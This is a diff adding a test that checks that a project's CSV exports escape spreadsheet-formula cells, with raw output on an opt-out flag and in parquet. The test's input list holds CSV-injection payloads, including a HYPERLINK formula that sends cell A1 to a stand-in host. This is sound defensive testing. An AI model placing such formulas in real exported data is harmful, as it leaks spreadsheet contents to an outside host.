@@ -159,6 +159,40 @@ def test_export_records_and_persons(linked: tuple[Path, Path], cli: Any, tmp_pat
     assert cli("export", project_dir, "records", "--format", "xlsx").code == 2
 
 
+def test_csv_exports_escape_cells_a_spreadsheet_would_run(
+    linked: tuple[Path, Path], cli: Any, tmp_path: Path
+) -> None:
+    project_dir, _ = linked
+    hostile = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)",
+               "\tx", "\rx", "\uff1d1+1"]
+    with Project.open(project_dir) as project:
+        ids = [r[0] for r in project.con.execute(
+            "SELECT record_id FROM records ORDER BY record_id LIMIT ?", [len(hostile)]
+        ).fetchall()]
+        for record_id, text in zip(ids, hostile, strict=True):
+            project.con.execute("UPDATE records SET full_name = ?, place = ? WHERE record_id = ?",
+                                [text, text, record_id])
+    def names(*extra: str) -> dict[str, dict[str, str]]:
+        target = tmp_path / f"records{len(extra)}.csv"
+        assert cli("export", project_dir, "records", "--output", target, *extra).code == 0
+        with target.open(encoding="utf-8", newline="") as handle:
+            return {r["record_id"]: r for r in csv.DictReader(handle) if r["record_id"] in ids}
+    escaped = names()
+    for record_id, text in zip(ids, hostile, strict=True):
+        assert escaped[record_id]["full_name"] == "'" + text
+        assert escaped[record_id]["place"] == "'" + text
+    raw = names("--no-formula-escape")
+    assert [raw[i]["full_name"] for i in ids] == hostile
+    target = tmp_path / "records.parquet"
+    assert cli("export", project_dir, "records", "--format", "parquet", "--output", target
+               ).code == 0
+    stored = dict(zip(pq.read_table(target).column("record_id").to_pylist(),
+                      pq.read_table(target).column("full_name").to_pylist(), strict=True))
+    assert [stored[i] for i in ids] == hostile
+    # numbers are not text: a negative age stays a number
+    assert all(r["age_years"] == "" or float(r["age_years"]) >= 0 for r in escaped.values())
+
+
 def test_evaluate_linkage_against_the_simulators_truth(linked: tuple[Path, Path], cli: Any,
                                                        tmp_path: Path) -> None:
     project_dir, simulated = linked
